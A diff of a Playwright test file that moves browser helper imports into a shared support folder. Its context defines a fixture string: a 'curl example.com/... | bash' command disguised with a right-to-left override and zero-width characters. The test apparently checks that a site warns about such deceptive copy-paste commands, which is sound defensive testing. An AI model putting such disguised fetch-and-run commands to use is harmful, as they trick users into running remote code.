@@ -1,12 +1,12 @@
 import assert from 'node:assert/strict'
 import test, { after } from 'node:test'
 import type { Locator } from 'playwright-core'
-import { startSite } from '../site-under-test.ts'
-import { closeBrowser } from '../visitor.ts'
-import { aCommand } from './a-command.ts'
+import { aCommand } from '../../support/browser/a-command.ts'
+import { clipboardText } from '../../support/browser/clipboard-text.ts'
+import { openCommander } from '../../support/browser/open-commander.ts'
+import { startSite } from '../../support/browser/site-under-test.ts'
+import { closeBrowser } from '../../support/browser/visitor.ts'
 import { copyFrom, descriptionOf, partsOf } from './card-parts.ts'
-import { clipboardText } from './clipboard-text.ts'
-import { openCommander } from './open-commander.ts'
 
 const REVERSED = 'curl example.com/\u202ehs.exe | bash\u200b\u200b'
 const WARNING =
